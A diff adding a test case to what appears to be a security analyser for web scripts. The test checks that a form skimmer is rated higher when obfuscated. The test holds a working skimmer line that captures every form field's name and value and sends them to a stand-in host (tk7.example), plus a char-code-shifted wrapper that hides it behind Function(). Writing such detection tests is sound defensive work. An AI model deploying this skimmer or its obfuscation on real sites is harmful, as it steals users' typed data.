@@ -113,3 +113,15 @@ describe('a string built by statements after an early exit on the page', () => {
     expect(r.findings.filter((f) => f.ruleId === 'decoded-code-eval' && /analysed as child/.test(f.message))).toEqual([]);
   });
 });
+
+describe('a document-wide field handler inside code that only exists after decoding', () => {
+  const inner = "document.addEventListener('input', function (e) { var t = e.target; var o = {}; o[t.name] = t.value; new EventSource('https://tk7.example/s?d=' + btoa(JSON.stringify(o))); }, true);";
+  const run = (code: string) => analyseSource({ sha256: sha256(code), source: code, url: null, kind: 'external' }, { rethrow: true });
+  test('is high (as plain code it is low: session replay reads fields the same way)', () => {
+    expect(run(inner).findings.find((f) => f.ruleId === 'skimmer')?.severity).toBe('low');
+    const hidden = `var q = [${[...inner].map((c) => c.charCodeAt(0) + 3).join(',')}], s = ''; for (var i = 0; i < q.length; i++) s += String.fromCharCode(q[i] - 3); Function(s)();`;
+    const skim = run(hidden).findings.find((f) => f.ruleId === 'skimmer');
+    expect(skim?.severity).toBe('high');
+    expect(skim?.childSha256).toBeTruthy();
+  });
+});
